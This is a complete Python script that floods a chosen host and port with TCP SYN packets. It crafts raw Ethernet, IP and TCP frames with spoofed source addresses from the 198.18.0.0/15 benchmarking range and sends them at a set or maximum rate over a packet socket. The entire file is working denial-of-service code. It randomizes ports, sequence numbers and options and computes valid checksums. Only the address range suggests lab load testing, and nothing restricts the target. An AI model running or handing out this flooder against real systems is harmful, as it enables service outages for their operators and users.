"""Sends TCP SYNs from made-up addresses (198.18.0.0/15) over a packet socket: syn-flood.py DEVICE ADDRESS MAC PORT RATE SECONDS.

RATE 0 means as fast as it goes. Prints how many were sent.
"""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - ((total & 0xFFFF) + (total >> 16))


def syn(link, source, destination, port):
    options = bytes([2, 4, 5, 0xB4, 4, 2, 8, 10]) + random.randbytes(4) + bytes([0, 0, 0, 0, 1, 3, 3, 7])
    start = struct.pack("!HHIIBBH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 10 << 4, 2, 64240)
    pseudo = source + destination + struct.pack("!BBH", 0, 6, 40)
    segment = start + struct.pack("!HH", checksum(pseudo + start + b"\0\0\0\0" + options), 0) + options
    header = struct.pack("!BBHHHBBH", 0x45, 0, 60, random.getrandbits(16), 0x4000, 64, 6, 0) + source + destination
    return link + header[:10] + struct.pack("!H", checksum(header)) + header[12:] + segment


def main():
    device, address, mac, port, rate, seconds = sys.argv[1:7]
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    packets.bind((device, 0))
    own = packets.getsockname()[4]
    link = bytes.fromhex(mac.replace(":", "")) + own + b"\x08\x00"
    destination = socket.inet_aton(address)
    random.seed(1)
    frames = []
    for n in range(20000):
        source = struct.pack("!I", 0xC6120000 | random.getrandbits(17))
        frames.append(syn(link, source, destination, int(port)))
    sent = 0
    begin = time.monotonic()
    while time.monotonic() - begin < float(seconds):
        due = 64 if rate == "0" else int((time.monotonic() - begin) * float(rate)) - sent
        for _ in range(min(due, 64)):
            try:
                packets.send(frames[sent % len(frames)])
            except OSError:
                pass  # The queue of the device is full: so is a wire.
            sent += 1
        if due <= 0:
            time.sleep(0.001)
    print(sent)


main()
